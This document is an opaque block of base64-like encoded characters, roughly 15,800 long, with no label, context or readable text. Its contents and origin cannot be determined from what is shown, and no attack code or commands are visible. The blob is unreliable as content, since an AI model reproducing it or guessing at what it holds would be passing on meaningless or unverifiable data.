ugv505AO0Tdw7fcBMH1tGBFDmUP/e2Yq0fcDNj+ZdB2CQaXElgQFpB+wErOAMFUAYew0dWWCJRmQDexzhQVCZ4UUs1lgE0etaiVGXhpI3gGZPkUeeGBmWpLLLa7AwC4JbxnL5p3Zysr4IlaxoxKrVCVW3P8FINwK0OkOBGMENOuw+Fm5YFrOgZEhdELpQGdmKv/FvA3h0owCe4n+qi7xYJoZ7r/Rja5Xo5GkE3K0+OWVH0g7AOoHIPXlg51LWavEobpOr14epPtYd3bxCAfTUf8Yrfx5fxwJzUJAZAmtLu9jLYjkNWnCj54L70jlxX2G2BYm9SH5BpJXSq8dkyZyt31/ZsufNjyrTFuwxBWPEFods5fW9mhtxQGMcr6vaQ53DDZ/fKu+74S2Qz2FMVSG1QuSW2fAKlXJaNdO+XdzEV11NyxGAz8TNyKA12ZW0Lh3Z1zSVDhVAfx4KgdUIi6mJx63f9TarVWTMQ40Bfy1DFDWwVs9zqd5DJR+T51SOSXD2GydByPVyJNTere/0pLVGPxYmHebeiQuTM5uRnE/ZtweR5ypiSO8nI4RgPB1PL8MPgGVA+SPoxM5bGvOTK8rU4Of9V7fduCz34UGzH6AlQNf7itUd1BAP/lCWTijxZvkuFbrzNCQQmnMGaHQyXlC292ZZsAhElqcZHOIlMF3sjyV/JzetjaQv35Rzkj6p3e7Oz8cJqxQVw4MQZbvATNFMFkCTQW3Uf5X7V6iC2PObPcJBlWFyPvGoQ6pEskB4TmKRj4h1FxqapPuSTipPTUHcJNzgr/ZR/pkAof03sgT77INLlGYEIimI01wUj+pmpP5fSlV7OdLjWbf/01H7x3j/CiYYqFM1cusuMZovXojG/tGL81GXhTtE2D680Qk8bWdfaIaVD5BPT/kLgOcUxtu7BuOke1STaJKKbPabFCnKbSRwtYgdKgZBc4okL0vCgpr5HDjbbvflinKwzcO5BrxC5mrIMDk7cc6Zj3gS63RPKI1BtFyqAbS+cvMfOPP9a0bgplu0Sx8VgWnKoYMP19XmlRp2fMsLmZ+DlSLSaim92BnYWj5TnuYQ55ms/3Tpv8qiAMAEV6QXdEAnDX2QD5OWM3arDS7ZGfuGgTsXViEg/po+gQ8R461v03a4ifHeQGGvovl7vNRCxxSXwgxNWRBZZ6JuiD+EvTpfBUC3fIUErlGfEwcYuQH/ezPuH5rxyNEZonp5osBAEO8Y9NlChE41JMwl2qZ6bF70XiL5qyxJNfWRj+sbbj7VOfZVjdmPkQV8HJvPfwuRd0O1f92DCoFq+1rl2yNYkfPzeJnBrEjK2PhLip/e5ZwgjO9bsfH+EPYPnKPOOEMKZZSNDIgHry31QiprAkjBTsfAmRDj5Txd/mRzlB0yhK/5GgZiEZ8RtvxSacJSpWrqV/K2NrwOTyOdzRwf26L3fRSSzBqMQeLRUsQboGjVfcPW9SNLm7ULYn1VXRvummPnhA4+3d5cjrz2+GZg2u3+TvM+FoEWNeOq5E6SwMTMSR5xb0dLcrMY8PrcmlIhYGJ2d4UM1g1tnhkWcpn3n5BBhpOi+BH2PJ4Cww8Dzp+I7yfRQGtcSaE8rJ5NWO9P+S4xy3bv9Ol+QDE7qdgtdlJ/hn2ugKZ9VB+isCE5HXu2u+lGDbcp2K3howyniL9fDZ/3cQJZMnhvatcSxkdFpxWqzW5SdP6snAPj8pu+IdejfN+UMmqHGHHU6McwGSlEOKIRWu0mugwAHTc7puXX0rO/N2TuLjkfGrzwJNeVuoGhAVr/oqLMvsT0BTUoYtXAeJ77dlGxdbhsFjrzrpFfM8JIzYJDy4MzbyLZeXlUqNHxCei6y1zj9oH53fHSy11DwJ1bMk8ONLD6Iquv5nNL4C1XfOtJv8cgjvhT29Gi1DEMelGiKL2bsRGy/LaMhA9dN672WeICgiMlbwCofXyELEs0f44/5rmGL8Iht87IqwkH1oQHedtXFr6WprB/S0j1JQyg7MPD0YPJtHfKl8J74hJDP7rYU2fDY+3tpjojf4kwGYRApWbA4Q9TG0XCE/lBWfbEI08/H7Q0XyqkpsDtIgfhzk3txPlqMuS2z9nWP6FY/thO5PWn6nfSKR8ECAsB3JnJVyl3CJwPbE5gWGM7tPypeL79E0e5VPSumn33sChrTytR+8I4tXdBs/LVnEydJ8LhWPcf5IOPfOA8+QT9C4qAEL6mobi/f5hpWXlswQRP/s9oz9vuMkMeWwlkTge76XX7cgAYAVoP8obGwNVlWboBeaaThrutP2e29dQRsv/fxIHRj/wl9VDouz7FW8fY6D8s8RH7YvWAmsPhotSaUWJecqakSzTo31x2UVNXIRYLAtpWwn5QN6t5HhbICrfjzgETWOrnww3nKXJR7fwe+P+U5pH/SLKiWat4PFHWrc6uJg98Ae9Gyg721mG21mLVlMptPOGOeugD3qXv5sd+sehT8ccKsAqnIAj6vWlJ9tL1Kpq8og+FS/gtI1zMTSbisI59o+HGZ8BYg5nyGGI/csB92RRaLX/4hTxaMdknuc4N/uX5BIhanELK9ohiQSamEBffXFLpancrjU7lwQMS2VSQbEvaPuLfcrdBe6FCGPXtUsi8tLTI68sJSz8UvfDWJBVgCDiOV0hJY+Swa+Ll8e8iAx6PcgnTKzRcMiqVKK4/1a8b429f13dY1fyUeUy5nR61u/EhcZt35hegcJU46rCGJdGL82vBB0LUhh8XyvHMcrvLsvG+U+V0N6i3BsgO52s6KuzP8qy2EBPksxcMFyH1F1hdZcE2vMdubmd4EiRA9GunXNWsUEfsbRBT7Ogb8Ck9gwpi7yt3DPui8E1kU7ljB4fV9/JNgjIiUecUHAS+ZMUXUHdKVyTI82hTOHjRsX+HmTqJ0ymE10q0zmOYMsb7H+sDmZ6U6q2PA+Qt3hjrU/v6eR+xtYtkTL7KmlvDTdD3AR6bfjLjEdHxYM8C5jwST0XzygbMseHYMFJ9wn63iNxHjDZq5T6aETjIenadWC8PZanFvZK5E4WN7HyumDx5iK1dqgdHabqJ1MqHaZ971UFLI3mXBCzNgOAFWoYAZdwQoth49ZUT0M13GPx9XuRAvkPJBgKogdDp4/22cfcL4I6Vb8E55Dv52guCxO5pYC8sJosUmorndsmsM6JL+qK3Vebob5cfdgBVEYY6afq6p2R61Q6f/ce4blhOlQKUCz41nRxFd4DacNiUniYfxUyXQeF5+6L+hfFWlQ8qSg9s12H+waBcoZpezmHsCfO82nBGqVm1Hoe5Oa4OxZzNC5YjrgBl360PiQT7ec3pY0Qh97z+fMpHBTnxoMSeIuviHFJnX03Cj8uKW26VBtCza+R8UUzqdbI7kG8UXnkgjnCHKAVOte4HA/BOEUle2EEXC6DdT7pknJ2mcqLGgs6+LRp/JTr9xSSh2KXtT/8xX7ZsM4PiY13v9zaBOPldP/ylc7gAl7+YJPcr4AO6egKAKtT/sTyb9bPUskuvqE8yOS19gZ2AVRlsi0B9SA/Ylq4Ko4dAd1jy7mX/pZVpeyySUYrfMaRrY4Vs3Rj2lCdQVEKiHZJjLf/JS0Fk8gnFEpc+vE44EjbYYhpDb/qVUpt1g3goN3lW7XCBR2s0U/vFfCigfbhJwC6EcyfX01An7/JqpeukAYsaG1QV1wnHxAY3n5H6yYTMkt8BtvF9XVqpmMPtLB/7NNeAcxxwmpo5nZs3jHi8+kkltaxsp1KdFmljZCVLMDdNOb6TvNap+A7IL0kuBA6JAajx6vUyIReoEQAP69DN3Jxvgc/umD2JIUZuz/VT4lIpZPkSRJHna6bi8rsN5uZJGqxdtwl8e6ebvJ2iy1R5ua2xOshkFzxh4WrNvLCvPW53duvQgejQCe5fjQ/KT6VdhksowGYkszeyUUq9b7iGwFm16/+iJPOZR5KBRMYW7ANwIBJh5hzhYy6rKKsfTViVnEDrZOjkXwtAm6kG2KEeDaBiMX1VGBlnT1qCVKb+aIaMhUlFllqSTZd776D+NQeeMH77tUAdxH9iODyVixqCQl/GSFi1r6+tLeVaMpWht1IbNh5pkWbhxElJhMCNtV4iQddnNwUCFXIQBlmSQ+aGsmqUSoof6FfzOV4hT/ADxnSZxtbB2H9HvTVCd/dc3vpGRs9gdOScritEB8U3Jw5ZGTUu/el27Melmq6SY/30VuKnOG3/iUksIUJhJ9OITzAPkZfiJk+Ry497s9ByD0pQ5DF3z5UCXxCoObeKY2nwWFbvnyCIAAFNnlM4Lzy0AKF5a85DjdXRbPdE5UDyoiWhyW+d04fzndwT8lg5uaxn3aBFlc4BW3+PLKdOwi4GfB4dAP8X1eaKSXtNTRnaDxMfz4B/SfgfQeyiFcw4RVAi+DoTYX40LuMOuJubPXVf6bSs5I97lgjSw8hnLQAsfRxSCoqxviGVdPh+6uxGYEtggTKHjk172qaby2ulpeymJT74wD529/M1COn+hxP5QJWM2/ePDW0zYzQ7h1tTTr1ijSz4CLQ0JBwqBuIjkWyaS8QHhQzGom1H5vOQCKtN3gf99M0G/4eREXu/67jeyCn0prdYvtUkvw6aZco5fTiIumySq6xBnv/G6bLsgJNvmurMeDcf21nEt169Bquo0azxBsJO38yGZgG41qL9gAmC0eBMv/Uc8gt4ZY07Yn/sLH59WLdQyI/b2AktrnOY6cvoCLLmOY198fxx3TPB2enMb0Z+JY3qsEsDaRtkAPSjVJMzNUU77QXiN0zPjLhpkx7AKMlYHAegUoFMTB3n4D+4YdAKBHuyTyk8RCfK5bR7/F5aDErpTSVmfOBXf8fz8Ix3cS+kKEXy8nO27NeZQ2n96Lo1oFIR6Emi2rSLID5tRqF4nqDV88tD3d3rWi9iBElAMvf6dyxd3g0id06872pA9kvJFpK6giMELCyjeKS3jlCE2wfp9XUBH/rwHyJmb2KM6nW6fqcH4f4Umxh/mveGfcxHKi/roheJjuVH1KPtA51ZGgPyZvNTulpUciAqoBumnHZopq90lJvXf2kv3onGA+yMnRIalWsYH3+yfgY8W+JcpwcQz+SlV642hzeE6xjVQehOmQtIPXssLXjWLcclfm+wOYt5BbBi+rtpjNdDb2Jp8HQU3/h5yi8q7a/WUQw362bbswxLEsVlW3MJXboiiLSeSv9eUiF3Wd87WJ9lF8jY22FEIIWBEKC6kQEGOye9vt8g1eh9ndFsFXf7Pdkxs3IBWUEGPEiPFB+Z1ffqoj0AGko1Ltbjl93CdkB+Df5/qeHVpzhbdYaxNFJvNXKir3PoEShqu3OEelE2/F/ZLrv1EUEQXS7AoXROyCHkEKv/dp8fCo8euXJOJywBp5kfRkMmT1A/bFyg8lfjAnYLuY/XAqZ/F17r6dp7riy51t66f2gP/wABykax8HNm+PemWTpp0sSV3mXuDQUSD8874zpqAszdyrbb7Du4E6K8vPtIHdZ1+v3syx4iLvzBM1wouKyO36AUW612j5wNZxEKyD1lor1fzgJ/i7ZjnXO/Gvs/koZR0eOqdczuwCsTwlhP7ERYE/E/f+ePl5VU35OMtTylY+txpfPGLpecrE+ObGrsDiQm5/Ef0jyb3Hrg584GnCIK9P7qI8iP1F6Jcc7DYtiuuQrPBeB2NUnhxD9okivLmzlydZdJ9QSyXTo1DlUjei5qtsfHxubKpEkl/YSLy2HP8YyB6X6rHfnSGnAxhVuydA3qXKbu+f+vP/AHPyZPegZFgPdd1vHelgG6561IbIHdDEOY58Ot2vDjPOvJ1WjBSQh00FnjNFdoqXai1FE06XWx/A+bz0wnu1jNSLjTmIdYdG2ZUYBW5Z+b2UuyU6P3cdpYVrgJNPDsO/AHI25zmW3BtoRfDGe8nQbZizV5JWAsCg+pI96LxDnN+HDrjlRKlI31BrSH1eQfpLAIIHs+7eSZk0kPgcCXki6WzBThePbLwBtViy2cywGZl+pfdweL4PRmPHcQrYO6P/xfYWkUDESRZcamrlZTO2nOyN1L+Oc11hXxpyq5Ory0wuESwrPi4nTz7zGR+bcMfM7+rFL93Qe1yok0gIbgpy5L7K6bGKirmSXG6RgExzq94CnuhecunOnKpaakzcCMzXuhx3pscQvmF6mjDtsL4jC0jAAll/0izQonmpYOli7x165LoH6K9e0ETZpll1vmiQFDRGumTeVUbdI906rxUUHpGX4bRTvqMla23ILZJ2XJqs40398IA6AwszL1dl3QGIEaiv+enlt/IGtGBE2m1JaXHibIIPrF/TWPDxPy4P5riaEHhUSPeDOM0i2WAarcOCOebLSKoy2QpOjuMMUjmkSEGtWKexiooQbMA8K2dNvTKJXASPJPtYMMSSntMxnoHStc2A6WQWkw7JUsantixW2FiO0wXtytgzN4EIUVGG2mAbSMFZXvVX5iHZpy8CA8A9biDS57M1GcRQ1j7IBR3RCz54rpk0+2plmXA20fDMrsgeKYqbVHbOSXTp+995wRqYjTOKkYuc4xh7A3+CWNRunH1srBRyN0enJ+c+IJjbxzfZFKV9vNufv2NIQVrk1e+1nrW5Ibyp1RR65Z2ILWeLJi/RfXY4EiYJpy60Y/4S/dg1O7aCODL1MEmYCUlSHtQd9SlRcSkfVIZmKCJBba/pAl5nqVnpEMdCOhBPXIs3sln4/7iYVHo4YpGE3rrKXhSfPs0rmTMskIGEsG/RNMQppwRsQ6UqYK5lqUegXg1upUqeZ5joWVHvRt8F1HKR07HNPjnEbayUDrWUEVw3i1baw8yaebOHAUi80pyBBOUeXZFJ9rgjv/YGup/Jk1CJbHJew71uANitxlfYcxIVPDemKTvEjWCx5VUmwouWNBPNAwXTYc6DWQzuXX4HBbcuI9miqg6dt9haghhpFjM3uRoskQ/HqgM9/QBL3/IspY6cTISH5U23Np/rgDFC+xoMiRBWuvgwz4iIWNNWqf1Vw1uxx9/9xkPyKrLeRMO9YtNa8qmoHQZ1yTMHIJnz7w+JE+als/pbJbALwgNsvPb++4x/gG7nQmbPpSuVBhrz0PgYwivjp9rZ9C5NEXQWSa/MNyMmHvdz0kV5i6Ylpvv6tndy2vzbAuJx6cmLdKWEqxiywPVhAc8EJcs5kXfm6bHAR5SH+q/Nb8XnAC1Qe8xbIA84fJknXTVCME7qEoOmSIrzv9oPVLBG2c1RpH/eIHfXP7hjPOVbKoR71+EMeZHt2wQdxrjscwA4IuYi7z6L0M81jBzqkTFJQLVdhpaA3OlyiqwG0I1BoGg9nx+LiRyiMFmH8qS0Rph/8ry/+H/4LR+d/kGHCkj8zAfLe/TpMJoi1vD6mK4OohrfMn7pGnVYI3ijd7bNUp6V2xWTcav8m+cR7WFBXGRjG/8kwujnXm4zIClV2fWdor2A9vElT4eCv68URtNg9SggcdyH/oReMqRu9mk+noZNwF+1uzz5U15nq7RR/PK9nXgq95lINLSRZXtqisZDDLEF13WSUfz3ygvO8WJHM+R4ordd8JYxxD++mtX2k+34wzcYA+UFL7FAdyChut7Ano0KgHKc557nsblWeyNFXMcs93xFeSfgGTbAW4MIMCDxycOBh2Vgf6GP6Us/HHIP29riN+FAhDCfxAlee0w4odpYVdxhU4b+DvF3J813H73ZNSIR4y7ZalScxEggYuitCvXqkE1Ql4cCZDXyDjh5SPxdrG+nThL1bco+umDPzebnLb0cQ5fWeVVvUbIcxly+TsvY6AMB23T8/fvNq18Zwg4IStToUd6cTh1rUZVpWa/0yH0klcpxoLI5i1UGCmJlnchiJCR1tJ/2xpDjIo9qINtarUxayljWdVwJd5vnQ2rv7b18N104y4GoDoorww0lZB/TVYaFmaqft/BgQJh4JBu5J5qLKhosruy5+tbQrRyXP+L4brxsAFVQDoKyIsftIFe3kZRvtlFn5bxlO5S3xrRJZHHtJstsy56jUGFqrzuDKTNJx/1/qrrDFBOvrQHLpgzdVU7EL+sKOS7zlqgxoJOF/pzr5M0ZrMM+uMC6RTG3HgsUdkOOsiGe+wzrkapnoIc47Oz6YbwtURpHydiHYTP7Q6JmOYy2wspL8kQGbey704BoZam4wVK/IbVn0hRAvCjN2GUPQIWonxRzz6DA96tx1TLMyDjyReYZwFMJbwSBgWp5Ho04Q8T1IvSpDD/tgIaz//5rvmjIRb1uCuC4w4e53TLDrnIb1R5iOHewNS9BjICfgK6Wd5DrZPik0vZ7+7nrIuEzDkP0ZSWU8daWUBjOA7L1CKwdD8SRb26XzTRMIW26qKMQM9d5carmLrvsuu6sVgjuY47KI+gsQ9i2LplSHA7IFT94lj/XFsDWfcRJ0H7DslZASf1W5u1lkGJSM42M7GZA0/7cJG/MsT8Yys8yMfnucCVjswBN0hMNkD3sGjoxDDSZEz+VGbFq+9XiNqkimlt9E9LcDT3bptcMfpHo67YCNvFQc7o3hm/tkcHzS/cZwRNutyXOb8xSudcE1vbBepTMAGe/5NIKNPx3tRVDmeYD3QS9KdHh0hZVnMUjS4+B1mONUKSh9QR0SXeoZq5ZmiWW71KfRtlCL+NY1mgZ2VFcJ01ZOfBL2xdRQ29pz0JtxXu6PoPJukh54JRbK0haI3jadXac53+lUHgZVgd5zwGcWzIl4kVF3jlcOASn5e5gNVOg6lVuR6TXmiuqe7JV5fzRXzSMHrsUsGbqGUeuJYvOz2ENezzdjxEsk5Pq8C946SRyewgwuNtreJQaYnJz+9A0m3u0JZuZ36yns3tQjrLujzFJ2nnTEpEJAi+Q0EABIY365F9B+U3aCoW7bl3URmeqe6Pd1T1xYP080yn/CpBZX+vRoZh94O6uyYvarnW1reqgSfrvCDEK6T2KIJ/70pbMPieCwYIBD9hb9qH6KgYlqHXXzswynTtDXVuZtwkH9VZDlJ6tg5gfe8XraIuYkalBZb0pl9NR5qqnQpAJzN2J+M3QJ5Jsg7uGN3uRcBSHo4byWwsIZzWTz6VpUzHhEtA9FmlUfQPJYZwR5jVWKoqc6QbNjMbXZoqoX6QC9+wphY2ymG2HBm42WT6hi77xjFigQiQ2tpUIYUfoLkU5Jv9cmlUGFcpqsfC6Vtg98k2BosHLRwra13Hs2Yac3oQq8EOA4vGpPrdHVuOUCFRh5+ZPJs43eNmOhMbyexR2mJpCHVMIITrGDK50znisAJ0qeXtIOyWR/5X5W4LlPZwtGD2T0Ii8EgXeSQ9SM5o5K5fFA57WqMF/FnK5+SI+jXNygiAnr2j43dL8Gfv+fafjR/7TLq9Cq3GWIjwzhSnRiKIFjyoP+e38oTjBBfKB8u/vPd0WY0BNoQL6TjfTntwoyxz0meqCTvtstAb06ZAu5WEroQK0vF3+1AF92ZKyKcjGkWL/yt4lSo0XP+DbkxC8Gq/PX3V0GCmuFlUxZsTDl+KpL9orBfu682NrtTiwzS0nud8PKZkKA+EaK0XKd07dGf+Ab8tu83tXdCEDcMsTxUvhUnnsfQsYCfJGk+u+a86VRGmwwC8PMa9LBEXMnJe73uk6YCf8ja1rs8XV+vqtEV6b9W92GBAG80pXVNthViUBVrVmLtCQY9NFMbekfdyOZsH65zqIO/jxO4nSe6qYtJSQ/oELHFhigUsGcY2VUkZZS55xtuX57f3A0PDZSr6ZaQCRr6afl2cUqsUKg7KLSwpzWA1d+H+7r5z4CtSj1FkOLuHEciup9C0NQypojtZkMAZATWGyFUe3VErE8mRSYToZeDXF1aPRPo/YjWqNo9KwqVb2Iv/VFfkIMroTJztca8RC0PJBv9DeVn8CFOer0X67e+cmhLZv10ekaKvdrREMifZhKoyntfiXlGBU8cI84O47qMI3Y7sqVK/DXqxcM3Ef+eecYt7dJyYVMlXK9WSVkss2N8yfapjh6NjsAw8tBthYiNbdWx7Zicknq+fcvb4RKqydHLTr8DAoIp4jKSrfnhiQ33BwOHnbSieo2CwoQyRpACtb+7KrOwXPJXr8C+woWY0Z4rPDVJ+kxZO6ubyJi9pGOdDYefsmIFKTCagoI8PkXPsNHZ2sGryGNkc/kbq1gkdHwJZ2jN6hHOJCiyx6n9UUp0vPRA3cjmvOkW845Jl2rZSxwSmEgfJsPZF5F396FnI/vTUVRh0a9efsHdj2+6qIf2FuyTEs+8rbzXOMak/LR7cFmHi51ecI3tc+wFu3fO97Bql5af8gmjsjyb6aZ9V9J6DAfIKkLReGNbyCoKgS6a/YAT29gACkQmLbL33/Q1mbXYwHtXB4Dzqyx+TAhyb5P1YQeb6plG2Y5iBYpm96i1bepUH4Yif/H0GmRaD308g1x/mIbgYRw2X2qKNb4dKZCejJxp53zrZG4MC9IRN7Y8AKk5awtw4WPUnKt8lfQzP+nUBg5yRZFjWmBqinnRmTfqLWB3kBYvPdYMGRLlhIrodW/BZvK2HncQkuBSu/sdnZbifI6JVmEAYI21ji/r3oyvgypcnfsmgz/E+9o5vDRV5ylRL8Bhvh+9Pq0xtjBNfoamaMe8xjJWe3jw1m7UynDlC7H5X1N67bCNzSoc56YABofd8hRiB1l5J5zP98P1EyMdAPcNJTQk9kVmjq2hFlMg+M2nYws3SmjYbv898jR3fXOdvPAKmlNuJJQ+Pwh/ko35fBL/nzXLjD32XYsJQRqA2KwMXmr2ACOlm0xm7Mk+KnrFR8Uy8H7VgFb1+5uwkWMO5QHWBckCKHIWRsHMkLRYQDWyFzegKeLih9MWTJDlnog05sR6qmBC2DkrPBcNEpcxq16hYqRms9RAOkL5cPjKstgvMCWCoMRxPt897loaWRHqcd54m9zBY/a8cGZstTiL+qw2YMWRdgJBj7krOuujfYLyDj4KVMg2VT3+gCrM0Tjk/V31j9lvf4ux3PZM12TTWEJDb9jGgiJXivxnsvnPX5SOznIHMNLkF9Xj1TKx5j9vm9CBWS5qQLKTG4DdzdsaS+NX7jnv1lb+xPBQQD7LCN6Ta2f98V6kKaQsQDK6ek4b1m3UmzNpsIme0/acX06eTDx6Zff5Gsq1vdqDboanVACqQgoewIppiAfymIozhlYvzjq8aKnZYNisOD2r19KkNTiBUir0I4Q7ovst+zBTxdUnx2Y1f0VEYYBQRcGyqaADDQ//1lVMrfRq2IfPwADQZx1HA8PCnAICZwA+gplMo2bsTZm0RZsKJKp2IN+gZp3SNd1bzOxYv0FwcuqAWGd+vWADKjDG4T85rhbXL0HJ9I52eAZeFOVSlRlYk+oo4a+67pJqLQWXjlGdxyLZpxDNiiW0W2yWiGBpL7FhRwSub9VuTFJ5OHLFkllprd/hqRhZsvE8hcUfaANETxjD5hmcT+IslvTfngftPb+XUyXT26oW+neag7EU9U1esd1KpnK6YZODmpQrJIN+fOPBOxMaijY5aIF9N0v6aCGaZhg0vlMvjMRZbVq5j6+8WE8EZ7ijNr7Sh5WaixoOcscfJ/eImsuhF6cmqjCM0h8lahgekvcDuYBQCY/WiT863Nd7rWnJAZ0+VrP+ZY4hS+FdK0SBfSUX2EYtZcCooHWOjWFjpJo7l5+lY2Xo2RdOSmnk1yumHFk5DMo+opvmEoAgr9LyEV9WSmtHvOtVJ1m+H4hNA8egjrQQdSfaVI+gRT+D0YPvZKdAUwsXB0vYjp5nKQu3xvCGMPELmDwvHyDmrfAqUxYzNMtN1gnm0UGxD5Av0zmO1DS2k8DdbRZArlBX0tRvKO4F/mqzFEULpMh11Lga1pVwbngd5hOEKslI8Bn9KZIF02lRtxtN8s3uNLd/wr1kzw0s5GTXApA93Uw10qgxGXtdiz89MDKNAkDQRaLha9XM98TQ9LYtrEf3AiiLWDl7nggZ7IuupPe578cajxmGMKPgjDfZLujqTV04C+Aad+NwrctifXr5w9g+vWD6XhnbHhOlK1AY0DKrGywYvar8+4DD+xBWplyY/WwbRWx9na9gHYLleRN4E9OoCReqW+by8B+3M49Hexz+Ud/lTVftJ882LuEqE6SWCAGSCJCTeZ9MNPdpNHibpYtxgYLjHrh3fWLoSXN7A79ygSxe504xTzWSBwbRDaaQW/VZ6HQEUbPFe8T7ftHKWWB2k4iMofihyZE8ZL9L8Wq8D/bop5VO3uCglusr/LRGHrkV+107UEnEm5DCCULGRV39DoJarvqxdOYv3DQ9Qx0EKtiYDd1+YZ9FdVyp8T3A2IgqJ+ojNP9oSOtjZY2Vq5+b1W/Z8+mMqDzerULgmYYGYykFjdLVCA+sISN0/bBFkfvuvJg1smodO1WOsNU6hGX/Oy7AftGuZehOJBII+3efZgrPBK4dpknsJO+Vm4fpWwuaoigCNnIv8LXNcaZREaxhMVcrJegzWWCPyekjEvZY12iDYsgNomSHMYpy3/Kl2hnzja+wERzRm+nBvv8odUVcgaiA8cZ1kG8JyF0MpyAq/9oMWhM4MWe9eofNi1XJqnzWgNoyAbjqJkmfj4vVZYxxsUxMgrBh1PjH77/QdYxRIAXMUiuWdmVrCeJzh7DMHc8O/AIS0BnkJTBuHR+gVJqlqhnLAr36KQfjbDHhOhXZDU/dRD3Wy9gBYurxDov2m9QCe8pT5vmDbU00d/qH50N9xF72nr7Vc0kfuM7LYipYlZ+rD3DyrDTWLX55Uhr6lOfOdIpgGVyZy7OWykXSBAKx7GgEbykoE6Nbu2EW6TRMK4WCq6nG42XO/mAPngIE/5Ciibifr6q5BBb43FEU68GDLPlJdvanq272HY0giUdaE+U0L/NOTtstK7PrJFD4AlVqtU9aanREs6kQ8pnul9kfnxoMcSwXCcMCQIi7Pmq0DfCvPf/1ZCWgWRyFydLRMdevhNWT0SjIiUMeOcHcBYdNNd8ddFV30uUMS5YFmSHgbAS9uPG7hscf49Q6/4WLUNOYCRR6TxHUYPlTv01m5clQnylG6wkWwisclHMf+GsfZqxZRz/qQ9neh/TKZS+V9Jii1kmcnj7AJKVuC5Os8yxfhzdf/LK8AxCQ8IbnrkBzHU7CkYB0V+bfs1ygWLDNKszZGXfVnIg1S/xH46sLugVkKF3wYiCfsG+6KTT68C3hviEfGJ9XPxpKjuHt9JNqmkzl07tzcX/PAzp9R2Eo/Rnwvsqwi6sNX+iw2suaPh00OpzJ2lS7/olSC3QgHVJqUnND48f4k4oMvW7c3cT3wczjeM4jH0CDBCG0F+LjdC7ly31uNpyCfOTHUnJDQLElZ+GpCKQq0T5fZa4jQVfKxEB8UDchJ6fdpo9eDdUWup3SyyE09XTHH7WpO8PUmPBID1OPhpYouJf1w3a0WWY7NJpIhYnn2mSemQ8B6726DjyoXwYL6wlHdQTOttiP5ArFQkZggl/WO2G9JERpndk57oCBTL0qOAOVQbCqNC646P38t7zBa8jYCR+r3juJLkzwEGMDUpweI/QR2P8H0XuQqY3tw5AbpJgeewyZw17801ero0FcbK6LEZni+1e8nqaMKH4eLF1kACUPWu3aKt9AsCP7Ry52Sbh1N76rHYdBtQkNJtinPunwsEBvi+xDD/TiYJW6zcU9YcriQOtZdRaFYuvdphsU55EYW/HeByuuVGpvMSF7BakIIFc3Cw0o2sXLaihNcstY7jPgsl7u3Di1CTWltSlSM0XCl6J1lOer1HHpuNsPuLYHJ94TRBJ+r1tATauRW86adWxt6fHOJiTjHmXPcWO4w3tvHuAFhCkjTb6XBaq8OAbgyQVv0AM/a//cbvbq0df+tVLIIc6MV31u0rlMUPRyV+sJlDR5Fy3NwNqqW8dLz8vOfYNPHBLm228XoY8qwHkNZSHIDVLrGY+inyBg6fP9bvG2WBd7G6cwcB+Qkd3hDyDpcUHQC03rQayrQkOPDyP5ryTr6pQ1kgm5c1jM6R7SOF8LMZ0Ucfiit1R2jfyh+pBDlxSb8bkZCy1wTf2jKdE4hIFn6C6zJGXjN6z7KtYlW7mL91iy18BeqJHyfmDB1/WT3GD3Kq3yA9/ZVx4Bterwo9OLpjn6kqeK1ExC3utVgR8anprCGy7GikuWTztECciFsaNjkP7NlfdhkQP8Rx8Fcml44N+Z8PX3ZWdalaIvU8mp2b8SZiLKKMO6xgz1o/wIn5qTrWX2am/uSPNZg9ODcN0hdBi7ycau1aC3BScsh8XAkFj8Ut3NzXR1dry5LY6ZxxVAHS7++WMCxgg2wqqIXJettukQ+5nmec9EbAeZ4He+iwQa11k4MVowG98L+qt4yIqm4Q5PtMAY7teHawsLCLyXsFh2Mtk8w33AtkRtbp3xMlfm0LRu6D9lbXdM8z1UHgfXCMzjiqdgi/oRuLdS5dKYkmF9sRmkxrQe+zBpKIuyMFfKyHo3ypyTZ62LrMDQEI8sz2UW4kNvgbwhw2VkJvOGp4y4as93HwVmN3Au3L5IRYsKRwprg7MTSvgMLHWdgoLGwjI2RZ5sGb2xhWG6IwzY06Jq6lji8jasH6nlbtWWVWSvGUGeBeRRDhIaAPoHmx8lTIELfBkk9rtGQY2pzoUboS+blz1YeSuAmJI3/Q5cwHgggcsFmGLt+m+1IeXVnco1jgsSpYpCo0RoV3w+ebp/yHoGiB1RSQpJ4tcV1AsUYcjJjMn2de8SHa4RgCoRA8bx+ElYEpPHJ7Q1u8RvYA5lANS+aZeRBMAM3tu2YSBUfsvn5J2w6CPmL+JpsrkYC8V0OjcVx6Njrasr/IlwU3AgACLvB+5WylacltoiEUfykpKtmzuyIPsvwvvVBkJrcffB6P7jdDZ5znUbcFgGPp0gSx5n2OXwG+xnP3fl0SiX5uWZrIT2Q76eBTtMhWsudzzMHAdlD7XR0rRORFR4BZkFhLdRKjywxWypmQNwNWaB9SdpEnaWFrNLcXc17rqJoPYN6eUdz8jawAlEHJMI4OkyiudgORIKgwn8SHsaEu+sK60RzkPvg5yvc6S0Qll7BoPUK+RqTTqkhVrW3O/uMZuIn5cn0IIUrUE/FA+f9YE5b/GDvs95gTLExeCWzXK5oZrmPD9aZ++mI3AqpPfkty6Fe583YatHdogk5QWUb+L8cIc50h3IyuekO3dlAJV9vY6mK1gU9VfFTuF5h6Vzep0Tov9UIxOHDqd5L0WhJkgjBFBFc1tq7lQ2ec9T7xHoUW3mqA7TLJUiIm5QEcNDhdRh1cDGZJLnDr/9KZ/jc5V943BUaz/Vch1b7ag4mORJ6gIhZadNitIKChtrObeN5z/lXpQh8yzj6rI8JhcS5CGEieZQwgvkz/1yu4blR12QarulIlKAlS2KKFScFp+jLmeME37GvQClJ8KNlE8Vv05r8g8i8hk+vgmpNEX9G2Hvfn/OTME/UK8tSAf+j3pxQD5U90gCNC2gF6ilJve7l9mzj1Lv64MLGlcOUNSwsNwKiVgu2F0sPTlpZaVbXXVMcHP8JqtnxY3y7fgNgx+pfHDWzMpCpivVo0EwCXANYHH9V/zri4rw1U/fAS79zJ39trbrGfHLJrAOYMptgJU3FGNccLxqU2Y1uOD+NheofTHijdBIY9RaeFvuUKHzi+onR9IBrPxxX8lgVR3dOOtXQ+ts7jI7xYlCYNgka6XkdG1TA2XvHs+19FYJcYfWICkNxHryYldQfrJzkRJ532CwXbxFkEwMD1yfQa8v47hLFNllg025jwgNA0JyY67UVfUvgwOHZafCci5WABrS62EnU5LI4yaeZ85n0wR7ubtr0CzOaYqIBlgcpzljmQ7yVhbWjf2ZyOeJ56a7A65cTS5OvSdAEwCh3cfxm